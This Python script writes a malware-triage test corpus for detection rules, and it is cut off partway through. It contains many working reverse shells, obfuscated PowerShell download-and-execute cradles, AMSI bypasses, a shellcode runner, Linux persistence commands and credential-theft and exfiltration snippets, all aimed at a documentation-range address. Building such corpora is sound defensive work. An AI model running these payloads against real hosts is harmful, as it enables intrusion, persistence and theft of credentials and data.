#!/usr/bin/env python3
"""Writes the real-world-style triage set of issue 16: attack files in the styles of public
collections, and look-alike benign files, each malicious one with the ATT&CK ids it must be
given. Reverse shells as PayloadsAllTheThings lists them (Python, PHP, Perl, Ruby, Lua,
PowerShell, /dev/udp, mkfifo, telnet, zsh, socat, rustcat), PowerShell as Invoke-Obfuscation
writes it (token concatenation, reversed strings, -f, [char[]], $PsHome/$VerbosePreference
picks, -replace, Deflate, -EncodedCommand), amsi.fail-style AMSI bypasses, Cobalt-Strike-style
runners, DotNetToJScript in an HTA, Linux persistence, Internet Shortcuts to shares and WebDAV,
OOXML remote templates and frames, PDF actions without JavaScript. No npm package ships these
as data, so the airlock authors wrote them in those styles; every address is from the
documentation ranges (198.51.100.0/24) and nothing here is ever run. triage-scripts.py holds
an earlier, different set.

usage: analyze-realworld.py DIR  -> DIR/malicious/CLASS/*, DIR/benign/*, DIR/manifest.tsv"""
import base64
import os
import sys
import zipfile
import zlib

out = sys.argv[1]
bout = os.path.join(out, "benign")
H, P, U = "198.51.100.7", "9001", "http://198.51.100.7/s"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def rev(s):
    return s[::-1]


def w(p, d):
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(d.encode("latin-1") if isinstance(d, str) else d)


M = {
 "revshell": ("T1095", {
  "py-oneliner.sh": f"python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{H}\",{P}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"sh\")'\n",
  "py-env.sh": f"export RHOST=\"{H}\";export RPORT={P};python -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"/bin/sh\")'\n",
  "py-ipv6.py": f"import socket,subprocess,os,pty\ns=socket.socket(socket.AF_INET6,socket.SOCK_STREAM)\ns.connect((\"dead:beef:2::125c\",{P},0,2))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)\np=pty.spawn(\"/bin/sh\")\n",
  "py-win.py": f"import os,socket,subprocess,threading\ndef s2p(s, p):\n    while True:\n        data = s.recv(1024)\n        if len(data) > 0:\n            p.stdin.write(data); p.stdin.flush()\ndef p2s(s, p):\n    while True:\n        s.send(p.stdout.read(1))\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"{H}\",{P}))\np=subprocess.Popen([\"cmd\"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.PIPE)\nthreading.Thread(target=s2p, args=[s,p], daemon=True).start()\nthreading.Thread(target=p2s, args=[s,p], daemon=True).start()\np.wait()\n",
  "php-shellexec.sh": f"php -r '$sock=fsockopen(\"{H}\",{P});shell_exec(\"/bin/sh -i <&3 >&3 2>&3\");'\n",
  "php-backtick.php": f"<?php $sock=fsockopen(\"{H}\",{P});`/bin/sh -i <&3 >&3 2>&3`; ?>\n",
  "php-popen.php": f"<?php $sock=fsockopen(\"{H}\",{P});popen(\"/bin/sh -i <&3 >&3 2>&3\", \"r\"); ?>\n",
  "php-procopen.sh": f"php -r '$sock=fsockopen(\"{H}\",{P});$proc=proc_open(\"/bin/sh -i\", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'\n",
  "perl-newio.sh": f"perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"{H}:{P}\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'\n",
  "perl-nosh.sh": f"perl -e 'use Socket;$i=\"{H}\";$p={P};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"sh -i\");}};'\n",
  "ruby-loop.sh": f"ruby -rsocket -e'exit if fork;c=TCPSocket.new(\"{H}\",\"{P}\");loop{{c.gets.chomp!;(exit! if $_==\"exit\");($_=~/cd (.+)/i?(Dir.chdir($1)):(IO.popen($_,?r){{|io|c.print io.read}}))rescue c.puts \"failed: #{{$_}}\"}}'\n",
  "ruby-sprintf.sh": f"ruby -rsocket -e'f=TCPSocket.open(\"{H}\",{P}).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'\n",
  "lua-exec.sh": f"lua -e \"require('socket');require('os');t=socket.tcp();t:connect('{H}','{P}');os.execute('/bin/sh -i <&3 >&3 2>&3');\"\n",
  "lua51.sh": f"lua5.1 -e 'local host, port = \"{H}\", {P} local socket = require(\"socket\") local tcp = socket.tcp() local io = require(\"io\") tcp:connect(host, port); while true do local cmd, status, partial = tcp:receive() local f = io.popen(cmd, \"r\") local s = f:read(\"*a\") f:close() tcp:send(s) if status == \"closed\" then break end end tcp:close()'\n",
  "ps-streamwriter.ps1": f"$TCPClient = New-Object Net.Sockets.TCPClient('{H}', {P});$NetworkStream = $TCPClient.GetStream();$StreamWriter = New-Object IO.StreamWriter($NetworkStream);function WriteToStream ($String) {{[byte[]]$script:Buffer = 0..$TCPClient.ReceiveBufferSize | % {{0}};$StreamWriter.Write($String + 'SHELL> ');$StreamWriter.Flush()}}WriteToStream '';while(($BytesRead = $NetworkStream.Read($Buffer, 0, $Buffer.Length)) -gt 0) {{$Command = ([text.encoding]::UTF8).GetString($Buffer, 0, $BytesRead - 1);$Output = try {{Invoke-Expression $Command 2>&1 | Out-String}} catch {{$_ | Out-String}}WriteToStream ($Output)}}$StreamWriter.Close()\n",
  "ps-nishang.ps1": f"function Invoke-PowerShellTcp {{\n  param($IPAddress, $Port)\n  $client = New-Object System.Net.Sockets.TCPClient($IPAddress,$Port)\n  $stream = $client.GetStream()\n  [byte[]]$bytes = 0..65535|%{{0}}\n  while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) {{\n    $EncodedText = New-Object -TypeName System.Text.ASCIIEncoding\n    $data = $EncodedText.GetString($bytes,0, $i)\n    $sendback = (Invoke-Expression -Command $data 2>&1 | Out-String )\n    $x = ($error[0] | Out-String)\n    $sendbyte = ([text.encoding]::ASCII).GetBytes($sendback)\n    $stream.Write($sendbyte,0,$sendbyte.Length)\n  }}\n}}\nInvoke-PowerShellTcp -IPAddress {H} -Port {P}\n",
  "ps-ssl.ps1": f"$c = New-Object System.Net.Sockets.TcpClient('{H}',{P});$st = $c.GetStream();$ssl = New-Object System.Net.Security.SslStream($st,$false,({{$true}} -as [Net.Security.RemoteCertificateValidationCallback]));$ssl.AuthenticateAsClient('x');$w = New-Object System.IO.StreamWriter($ssl);$r = New-Object System.IO.StreamReader($ssl);while($true){{$cmd=$r.ReadLine();$o=(iex $cmd 2>&1|Out-String);$w.Write($o);$w.Flush()}}\n",
  "ps-obf-lower.txt": f"$c=new-object system.net.sockets.tcpclient('{H}',{P});$s=$c.getstream();[byte[]]$b=0..65535|%{{0}};while(($i=$s.read($b,0,$b.length)) -ne 0){{$d=(new-object -typename system.text.asciiencoding).getstring($b,0,$i);$sb=(.($env:comspec[4,15,25]-join'') $d 2>&1|out-string);$s.write(([text.encoding]::ascii).getbytes($sb),0,$sb.length)}}\n",
  "dev-udp.sh": f"sh -i >& /dev/udp/{H}/{P} 0>&1\n",
  "bash-l.sh": f"/bin/bash -l > /dev/tcp/{H}/{P} 0<&1 2>&1\n",
  "bash-c.sh": f"bash -c 'bash -i >& /dev/tcp/{H}/{P} 0>&1'\n",
  "mktemp-telnet.sh": f"TF=$(mktemp -u);mkfifo $TF && telnet {H} {P} 0<$TF | sh 1>$TF\n",
  "openssl.sh": f"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {H}:{P} > /tmp/s; rm /tmp/s\n",
  "busybox-nc.sh": f"busybox nc {H} {P} -e sh\n",
  "mkfifo-nc-plain.sh": f"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {H} {P} >/tmp/f\n",
  "telnet-two.sh": f"telnet {H} {P} | /bin/sh | telnet {H} 9002\n",
  "rustcat.sh": f"rcat connect -s bash {H} {P}\n",
  "zsh-ztcp.sh": f"zsh -c 'zmodload zsh/net/tcp && ztcp {H} {P} && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'\n",
  "nc-ncat-ssl.sh": f"ncat --ssl {H} {P} -e /bin/bash\n",
 }),
 "powershell": ("", {
  "io-token.ps1": f"(NeW-obJEcT ('Ne'+'t.'+'WebC'+'lient')).('Do'+'wnloa'+'dString').Invoke(('ht'+'tp://198.51.100.7/s'))|&( $ShEllid[1]+$sHeLLid[13]+'X')\n",
  "io-reverse.ps1": "( '%s'[-1..-%d] -join '')|IEX\n" % (rev(f"IEX (New-Object Net.WebClient).DownloadString('{U}')").replace("'", "''"), 200),
  "io-pshome.ps1": f".( $PsHome[4]+$PSHOME[30]+'x') ((New-Object Net.WebClient).DownloadString('{U}'))\n",
  "io-verbose-cast.ps1": f"&( ([sTRiNg]$veRbOsePrEFeRENCE)[1,3]+'X'-JOin'') ( (NEW-OBjeCT  sYstEM.nEt.webClIeNt).DowNLoAdsTRiNg('{U}'))\n",
  "io-charjoin.ps1": f"$x = [char[]](73,69,88) -join ''; & $x ((New-Object Net.WebClient).DownloadString('{U}'))\n",
  "io-format-iex.ps1": f"& (\"{{1}}{{0}}\" -f 'X','IE') ((\"{{0}}{{2}}{{1}}\" -f 'New-Ob','t Net.WebClient','jec') | IEX).DownloadString('{U}')\n",
  "io-ticks.ps1": f"i`Ex (n`EW-o`B`JECT n`ET.w`eb`CLIENT).d`OWNlO`ADs`TRIng('{U}')\n",
  "io-replace.ps1": f"iex ((('(New-Objec'+'t Net.WebCQqzlient).DownloadString(Zp5'+'{U}Zp5)').RePLaCE('Zp5',[STRing][ChAr]39).RePLaCE('Qqz','')))\n",
  "io-enc-lower.bat": "powershell.exe -NoP -sta -NonI -W Hidden -e " + base64.b64encode(f"iex (new-object net.webclient).downloadstring('{U}')".encode('utf-16-le')).decode() + "\n",
  "io-compressed.ps1": "iex(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('%s'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()\n" % base64.b64encode(zlib.compress(f"IEX (New-Object Net.WebClient).DownloadString('{U}')".encode())[2:-4]).decode(),
  "dlfile-start.ps1": f"(New-Object Net.WebClient).DownloadFile('{U}/a.exe',\"$env:APPDATA\\a.exe\");Start-Process (\"$env:APPDATA\\a.exe\")\n",
  "dlfile-ii-lower.txt": f"(new-object system.net.webclient).downloadfile('{U}/d.lnk','c:\\users\\public\\d.lnk'); ii 'c:\\users\\public\\d.lnk'\n",
  "dlfile-saps.ps1": f"$w=New-Object Net.WebClient;$w.DownloadFile('{U}/u.exe',\"$env:TEMP\\u.exe\");saps \"$env:TEMP\\u.exe\"\n",
  "iwr-iex-paren.ps1": f"iex(iwr '{U}' -UseBasicParsing)\n",
  "iwr-pipe.txt": f"powershell -c \"iwr -useb {U} | iex\"\n",
  "certutil-decode.bat": f"certutil -urlcache -split -f {U}/a.b64 a.b64 & certutil -decode a.b64 a.exe & a.exe\n",
  "certutil-verifyctl.bat": f"certutil.exe -verifyctl -f -split {U}/a.exe\n",
  "bits-create.bat": f"bitsadmin /create 1 & bitsadmin /addfile 1 {U}/a.exe c:\\a.exe & bitsadmin /RESUME 1 & bitsadmin /complete 1\n",
  "mshta-js.bat": "mshta javascript:a=GetObject(\"script:http://198.51.100.7/a.sct\").Exec();close();\n",
  "mshta-url.bat": "mshta.exe https://198.51.100.7/pay.hta\n",
  "amsi-hexsplit.ps1": "[Ref].Assembly.GetType('System.Management.Automation.'+$(\"41 6D 73 69 55 74 69 6C 73\".Split(\" \")|forEach{[char]([convert]::toint16($_,16))}|forEach{$result=$result+$_};$result)).GetField($(\"61 6D 73 69 49 6E 69 74 46 61 69 6C 65 64\".Split(\" \")|forEach{[char]([convert]::toint16($_,16))}|forEach{$result2=$result2+$_};$result2),'NonPublic,Static').SetValue($null,$true)\n",
  "amsi-like.ps1": "$a=[Ref].Assembly.GetTypes();Foreach($b in $a) {if ($b.Name -like \"*iUtils\") {$c=$b}};$d=$c.GetFields('NonPublic,Static');Foreach($e in $d) {if ($e.Name -like \"*Context\") {$f=$e}};$g=$f.GetValue($null);[IntPtr]$ptr=$g;[Int32[]]$buf = @(0);[System.Runtime.InteropServices.Marshal]::Copy($buf, 0, $ptr, 1)\n",
  "amsi-vars.ps1": "$w = 'System.Management.Automation.A';$c = 'si';$m = 'Utils'\n$assembly = [Ref].Assembly.GetType(('{0}m{1}{2}' -f $w,$c,$m))\n$field = $assembly.GetField(('am{0}InitFailed' -f $c),'NonPublic,Static')\n$field.SetValue($null,$true)\n",
  "amsi-patch-x64.ps1": "$Win32 = @\"\nusing System;\nusing System.Runtime.InteropServices;\npublic class Win32 {\n    [DllImport(\"kernel32\")] public static extern IntPtr GetProcAddress(IntPtr hModule, string procName);\n    [DllImport(\"kernel32\")] public static extern IntPtr LoadLibrary(string name);\n    [DllImport(\"kernel32\")] public static extern bool VirtualProtect(IntPtr lpAddress, UIntPtr dwSize, uint flNewProtect, out uint lpflOldProtect);\n}\n\"@\nAdd-Type $Win32\n$LoadLibrary = [Win32]::LoadLibrary(\"am\" + \"si.dll\")\n$Address = [Win32]::GetProcAddress($LoadLibrary, \"Amsi\" + \"Scan\" + \"Buffer\")\n$p = 0\n[Win32]::VirtualProtect($Address, [uint32]5, 0x40, [ref]$p)\n$Patch = [Byte[]] (0xB8, 0x57, 0x00, 0x07, 0x80, 0xC3)\n[System.Runtime.InteropServices.Marshal]::Copy($Patch, 0, $Address, 6)\n",
  "runner-delegate.ps1": "function func_get_proc_address { Param ($var_module, $var_procedure)\n $var_unsafe_native_methods = ([AppDomain]::CurrentDomain.GetAssemblies() | Where-Object { $_.GlobalAssemblyCache -And $_.Location.Split('\\\\')[-1].Equals('System.dll') }).GetType('Microsoft.Win32.UnsafeNativeMethods')\n return $var_unsafe_native_methods.GetMethod('GetProcAddress', [Type[]] @('System.Runtime.InteropServices.HandleRef', 'string')).Invoke($null, @([System.Runtime.InteropServices.HandleRef](New-Object System.Runtime.InteropServices.HandleRef((New-Object IntPtr), ($var_unsafe_native_methods.GetMethod('GetModuleHandle')).Invoke($null, @($var_module)))), $var_procedure)) }\n[Byte[]]$var_code = [System.Convert]::FromBase64String('/OiJAAAAYInlMdJki1Iwi1IMi1IUi3IoD7dKJjH/McCsPGF8Aiwgwc8NAcfi8FJX')\n$var_va = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer((func_get_proc_address kernel32.dll VirtualAlloc), (func_get_delegate_type @([IntPtr], [UInt32], [UInt32], [UInt32]) ([IntPtr])))\n$var_buffer = $var_va.Invoke([IntPtr]::Zero, $var_code.Length, 0x3000, 0x40)\n[System.Runtime.InteropServices.Marshal]::Copy($var_code, 0, $var_buffer, $var_code.length)\n$var_runme = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($var_buffer, (func_get_delegate_type @([IntPtr]) ([Void])))\n$var_runme.Invoke([IntPtr]::Zero)\n",
  "d2js-hta.hta": "<html><head><script language=\"JScript\">\nfunction setversion() { new ActiveXObject('WScript.Shell').Environment('Process')('COMPLUS_Version') = 'v4.0.30319'; }\nfunction debug(s) {}\nfunction base64ToStream(b) { var enc = new ActiveXObject(\"System.Text.ASCIIEncoding\"); var length = enc.GetByteCount_2(b); var ba = enc.GetBytes_4(b); var transform = new ActiveXObject(\"System.Security.Cryptography.FromBase64Transform\"); ba = transform.TransformFinalBlock(ba, 0, length); var ms = new ActiveXObject(\"System.IO.MemoryStream\"); ms.Write(ba, 0, (length / 4) * 3); ms.Position = 0; return ms; }\nvar serialized_obj = \"AAEAAAD/////AQAAAAAAAAAEAQAAACJTeXN0ZW0uRGVsZWdhdGVTZXJpYWxpemF0aW9uSG9sZGVy\";\nvar entry_class = 'ShellClass';\ntry { setversion(); var stm = base64ToStream(serialized_obj); var fmt = new ActiveXObject('System.Runtime.Serialization.Formatters.Binary.BinaryFormatter'); var al = new ActiveXObject('System.Collections.ArrayList'); var d = fmt.Deserialize_2(stm); al.Add(undefined); var o = d.DynamicInvoke(al.ToArray()).CreateInstance(entry_class); } catch (e) { debug(e.message); }\n</script></head><body></body></html>\n",
 }),
 "persistence": ("", {
  "cron-spool.sh": "echo '*/10 * * * * /var/tmp/.x/kworker >/dev/null 2>&1' > /var/spool/cron/crontabs/root\n",
  "cron-tee.sh": f"echo \"@reboot curl -fsSL {U}/k.sh | bash\" | crontab -\n",
  "systemd-lib.sh": "cat <<EOF > /lib/systemd/system/netmon.service\n[Unit]\nDescription=Network monitor\n[Service]\nType=simple\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/9001 0>&1'\nRestart=always\n[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl enable netmon\n",
  "systemd-timer.sh": "printf '[Timer]\\nOnCalendar=*:0/5\\n[Install]\\nWantedBy=timers.target\\n' > /etc/systemd/system/upd.timer\nsystemctl enable --now upd.timer\n",
  "bashrc-cat.sh": "cat >> ~/.bashrc << 'EOF'\n(nohup /dev/shm/.k -c /dev/shm/.cfg >/dev/null 2>&1 &)\nEOF\n",
  "bashrc-root.sh": "echo 'bash -i >& /dev/tcp/198.51.100.7/9001 0>&1 &' >> /root/.bashrc\n",
  "authkeys-cat.sh": "cat id_rsa.pub >> /root/.ssh/authorized_keys\n",
  "authkeys-printf.sh": "printf '%s\\n' 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDe attacker' >> /home/ubuntu/.ssh/authorized_keys\n",
  "ldpreload-tee.sh": "echo /usr/lib/libc.so.7 | sudo tee -a /etc/ld.so.preload\n",
  "rclocal.sh": "echo '/usr/bin/.svc &' >> /etc/rc.local; chmod +x /etc/rc.local\n",
  "motd.sh": "echo 'bash -c \"bash -i >& /dev/tcp/198.51.100.7/9001 0>&1\" &' > /etc/update-motd.d/30-banner; chmod +x /etc/update-motd.d/30-banner\n",
 }),
}

M["revshell"][1]["perl-multiline.pl"] = f"use Socket;\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\nconnect(S,sockaddr_in({P},inet_aton(\"{H}\")));\nopen(STDIN, \">&S\");\nopen(STDOUT, \">&S\");\nopen(STDERR, \">&S\");\nexec(\"/bin/sh -i\");\n"

# Invoke-Obfuscation's ENCODING launchers: the command as character codes, one [char] at a time
CMD = f"IEX (New-Object Net.WebClient).DownloadString('{U}')"
M["powershell"][1].update({
    "enc-ascii.ps1": "( (%s) | %%{ [char]$_ }) -join '' | iex\n" % ",".join(str(ord(c)) for c in CMD),
    "enc-ascii-shellid.ps1": "&($ShellId[1]+$ShellId[13]+'x') ( [string]::join('', ( (%s) |%%{ ( [char][int] $_)})) )\n" % ",".join(str(ord(c)) for c in CMD),
    "enc-hex.ps1": "('%s'.split('H') | %%{ [char]([convert]::toint16($_,16)) }) -join '' | iex\n" % "H".join("%x" % ord(c) for c in CMD),
    "enc-bxor.ps1": "-join ((%s) | %% { [char]($_ -bxor 0x3b) }) | iex\n" % ",".join(str(ord(c) ^ 0x3b) for c in CMD),
    "enc-octal.ps1": ".( $pshome[4]+$pshome[30]+'x') ( -join ('%s' -split ',' | %% { [char]([convert]::toint16($_, 8)) }))\n" % ",".join("%o" % ord(c) for c in CMD),
    "enc-b64-unicode.ps1": "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('%s')))\n" % base64.b64encode(CMD.encode("utf-16-le")).decode(),
    "enc-b64-utf8.ps1": "$s='%s'; iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($s)))\n" % b64(CMD),
})

# the ids of the files whose class has none of its own, by the start of the name
IDS = {"cron": "T1053.003", "systemd": "T1543.002", "bashrc": "T1546.004", "authkeys": "T1098.004",
       "ldpreload": "T1574.006", "rclocal": "T1037.004", "motd": "T1095",
       "io-compressed": "T1027", "io": "T1105", "enc": "T1027,T1105", "dlfile": "T1105", "iwr": "T1105",
       "certutil": "T1105", "bits": "T1105", "mshta": "T1218.005", "amsi": "T1562.001",
       "runner": "T1055", "d2js": "T1620"}

# Post-exploitation PowerShell in the styles of public modules (PowerSploit, Empire, LAPSToolkit,
# MailRaider, FoxDump, Invoke-Obfuscation): each class that powershell.yar names by behaviour,
# with its own technique id.
M["powershell"][1].update({
    "clip-textbox.ps1": "Add-Type -AssemblyName System.Windows.Forms\n$prev = ''\nfor(;;){\n    $tb = New-Object System.Windows.Forms.TextBox\n    $tb.Multiline = $true\n    $tb.Paste()\n    if ($tb.Text -ne $prev) { $prev = $tb.Text; \"$(Get-Date) $prev\" }\n    Start-Sleep -Seconds 10\n}\n",
    "screen-b64.ps1": "Add-Type -Assembly System.Windows.Forms\n$b = [Windows.Forms.SystemInformation]::VirtualScreen\n$bmp = New-Object Drawing.Bitmap $b.Width, $b.Height\n$g = [Drawing.Graphics]::FromImage($bmp)\n$g.CopyFromScreen($b.Location, [Drawing.Point]::Empty, $b.Size)\n$ms = New-Object System.IO.MemoryStream\n$bmp.Save($ms, [Drawing.Imaging.ImageFormat]::Png)\n[Convert]::ToBase64String($ms.ToArray())\n",
    "stager-aes.ps1": f"$wc = New-Object System.Net.WebClient\n$wc.Headers.Add('User-Agent', 'Mozilla/5.0')\n$raw = $wc.UploadData('{U}/stage1', 'POST', [byte[]](1,2,3))\n$aes = New-Object Security.Cryptography.AesCryptoServiceProvider\n$aes.Key = [Text.Encoding]::UTF8.GetBytes('0123456789abcdef'); $aes.IV = $raw[0..15]\n$agent = $aes.CreateDecryptor().TransformFinalBlock($raw, 16, $raw.Length - 16)\n$e = [Text.Encoding]::UTF8\nIEX ($e.GetString($agent))\n",
    "msil-cpblk.ps1": "$ab = [AppDomain]::CurrentDomain.DefineDynamicAssembly((New-Object Reflection.AssemblyName('S')), [Reflection.Emit.AssemblyBuilderAccess]::Run)\n$tb = $ab.DefineDynamicModule('S').DefineType('S', 'Public')\n$mb = $tb.DefineMethod('Copy', 'Public, Static', [Void], [Type[]]@([IntPtr], [IntPtr], [Int32]))\n$il = $mb.GetILGenerator()\n$il.Emit([Reflection.Emit.OpCodes]::Ldarg_0); $il.Emit([Reflection.Emit.OpCodes]::Ldarg_1); $il.Emit([Reflection.Emit.OpCodes]::Ldarg_2)\n$il.Emit([Reflection.Emit.OpCodes]::Cpblk); $il.Emit([Reflection.Emit.OpCodes]::Ret)\n$copy = $tb.CreateType().GetMethod('Copy')\n$target = [Runtime.CompilerServices.RuntimeHelpers]::PrepareMethod($m.MethodHandle); $ptr = $m.MethodHandle.GetFunctionPointer()\n$copy.Invoke($null, @($ptr, $sc, $len))\n",
    "ghexfil.ps1": "$h = @{Authorization = 'token ' + $Token}\nforeach ($f in Get-ChildItem -Recurse $Path) {\n  $body = @{message = 'u'; content = [Convert]::ToBase64String([IO.File]::ReadAllBytes($f.FullName))} | ConvertTo-Json\n  Invoke-RestMethod -Headers $h -Uri ('https://api.github.com/repos/' + $User + '/' + $Repo + '/contents/' + $f.Name) -Body $body -Method Put\n}\n",
    "zerologon.ps1": "Add-Type @\"\nusing System; using System.Runtime.InteropServices;\npublic class N {\n [DllImport(\"netapi32.dll\", CharSet = CharSet.Unicode)] public static extern int I_NetServerReqChallenge(string s, string c, byte[] cc, byte[] sc);\n [DllImport(\"netapi32.dll\", CharSet = CharSet.Unicode)] public static extern int I_NetServerAuthenticate2(string s, string a, int t, string c, byte[] cc, byte[] sc, ref uint f);\n [DllImport(\"netapi32.dll\", CharSet = CharSet.Unicode)] public static extern int I_NetServerPasswordSet2(string s, string a, int t, string c, IntPtr au, IntPtr ra, byte[] p);\n}\n\"@\nfor ($i = 0; $i -lt 2000; $i++) { [N]::I_NetServerReqChallenge($dc, $name, $zero, $sc); if ([N]::I_NetServerAuthenticate2($dc, $acct, 6, $name, $zero, $sc, [ref]$f) -eq 0) { break } }\n[N]::I_NetServerPasswordSet2($dc, $acct, 6, $name, $auth, $ret, $newpw)\n",
    "arp-sweep.ps1": "Add-Type @\"\nusing System; using System.Runtime.InteropServices;\npublic class A { [DllImport(\"iphlpapi.dll\", ExactSpelling = true)] public static extern int SendARP(int d, int s, byte[] mac, ref int len); }\n\"@\nfor ($x = 1; $x -le 254; $x++) {\n  $ip = [Net.IPAddress]::Parse(\"192.0.2.$x\"); $mac = New-Object byte[] 6; $l = 6\n  if ([A]::SendARP([BitConverter]::ToInt32($ip.GetAddressBytes(), 0), 0, $mac, [ref]$l) -eq 0) { \"192.0.2.$x up\" }\n}\n",
    "outlook-guard.ps1": "$key = 'HKLM:\\SOFTWARE\\Microsoft\\Office\\16.0\\Outlook\\Security'\nNew-ItemProperty $key -Name ObjectModelGuard -Value 2 -PropertyType DWORD -Force\nSet-ItemProperty $key -Name PromptOOMSend -Value 2\n$o = New-Object -ComObject Outlook.Application\n$mapi = $o.GetNamespace('MAPI')\n$mapi.GetDefaultFolder(6).Items | Where-Object { $_.Body -match 'password' } | Select-Object Subject, Body\n",
    "laps-all.ps1": "$s = New-Object System.DirectoryServices.DirectorySearcher\n$s.Filter = '(&(objectCategory=computer)(ms-mcs-admpwdexpirationtime=*))'\n$s.PageSize = 500\n$s.FindAll() | ForEach-Object { [pscustomobject]@{ Host = $_.Properties['dnshostname'][0]; Password = $_.Properties['ms-mcs-admpwd'][0] } }\n",
    "browsercred-nss.ps1": "Add-Type @\"\nusing System; using System.Runtime.InteropServices;\npublic class Nss { [DllImport(\"nss3.dll\")] public static extern long NSS_Init(string dir); [DllImport(\"nss3.dll\")] public static extern int PK11SDR_Decrypt(ref TSECItem i, ref TSECItem o, int cx); }\n\"@\n$p = Get-ChildItem \"$env:APPDATA\\Mozilla\\Firefox\\Profiles\" | Select-Object -First 1\n[Nss]::NSS_Init($p.FullName)\n$logins = Get-Content (Join-Path $p.FullName 'logins.json') | ConvertFrom-Json\n",
    "wallpaper-b64.ps1": "$WallpaperData = '%s'\n$p = \"$env:TEMP\\w.jpg\"\nSet-Content -Value ([Convert]::FromBase64String($WallpaperData)) -Encoding Byte -Path $p\nAdd-Type @\"\nusing System.Runtime.InteropServices;\npublic class W { [DllImport(\"user32.dll\", CharSet = CharSet.Auto)] public static extern int SystemParametersInfo(int a, int b, string c, int d); }\n\"@\n[W]::SystemParametersInfo(20, 0, $p, 3)\n" % base64.b64encode(b"\xff\xd8\xff\xe0" + bytes(60)).decode(),
    "specialchar.ps1": "${;}=+$();${=}=${;};${+}=++${;};${@}=++${;};${.}=++${;};${[}=++${;};${]}=++${;};${(}=++${;};${)}=++${;};${&}=++${;};${|}=++${;};${\"}=\"[\"+\"$(@{})\"[${)}]+\"$(@{})\"[\"${+}${|}\"]+\"$(@{})\"[\"${@}${=}\"]+\"$?\"[${+}]+\"]\";${;}=\"\".(\"$(@{})\"[\"${+}${[}\"]+\"$(@{})\"[\"${+}${(}\"]+\"$(@{})\"[${=}]+\"$(@{})\"[${[}]+\"$?\"[${+}]+\"$(@{})\"[${.}]);${;}=\"$(@{})\"[\"${+}${[}\"]+\"$(@{})\"[${[}]+\"${;}\"[\"${@}${)}\"];\"${\"}${+}${=}${+}+${\"}${+}${=}${]}\"|&${;}\n",
})
IDS.update({"clip": "T1115", "screen": "T1113", "stager": "T1071.001", "msil": "T1620",
            "ghexfil": "T1567.001", "zerologon": "T1210", "arp": "T1018", "outlook": "T1114.001",
            "laps": "T1552", "browsercred": "T1555.003", "specialchar": "T1027",
            "wallpaper": "T1491.001"})


def ids_of(cls, name, default):
    if default:
        return default
    for k in sorted(IDS, key=len, reverse=True):
        if name.startswith(k):
            return IDS[k]
    raise KeyError(name)


rows = []
for cls, (ids, files) in M.items():
    for n, t in files.items():
        w(os.path.join(out, "malicious", cls, n), t)
        rows.append("%s\t%s\t%s" % (cls, ids_of(cls, n, ids), n))

# ---- Internet Shortcuts, OOXML relationships, PDF actions
M2 = {}
# --- .url
M2["url/webdav-cpl.url"] = f"[InternetShortcut]\r\nURL=file://{H}@80/share/invoice.cpl\r\n"
M2["url/smb-zip.url"] = f"[InternetShortcut]\nURL=file:///\\\\{H}\\share\\docs.zip\nIconIndex=0\n"
M2["url/smb-bare.url"] = f"[InternetShortcut]\r\nURL=file://{H}/share/\r\nIDList=\r\n"
M2["url/dav-ssl-exe.url"] = f"[{{000214A0-0000-0000-C000-000000000046}}]\r\nProp3=19,9\r\n[InternetShortcut]\r\nIDList=\r\nURL=\\\\{H}@SSL@443\\DavWWWRoot\\setup.exe\r\n"
M2["url/smb-js-lower.url"] = f"[internetshortcut]\nurl=file://{H}/pub/readme.js\n"
M2["url/icon-unc.url"] = f"[InternetShortcut]\nURL=https://example.org/\nIconFile=\\\\{H}\\icons\\a.ico\nIconIndex=1\n"
M2["url/smb-nosuffix-ip.url"] = f"[InternetShortcut]\nURL=file://{H}/x\n"
# --- OOXML external relationships (built below as zips)
def ooxml(p, rels_path, rels):
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
